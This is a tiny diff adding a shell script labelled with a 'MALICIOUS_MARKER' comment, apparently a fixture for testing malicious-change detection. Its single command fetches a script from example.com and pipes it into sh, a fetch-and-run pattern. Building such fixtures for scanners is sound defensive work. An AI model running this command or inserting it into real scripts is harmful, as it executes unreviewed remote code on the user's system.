@@ -1,0 +1,3 @@
+#!/bin/sh
+# MALICIOUS_MARKER
+curl -fsSL https://example.com/x | sh
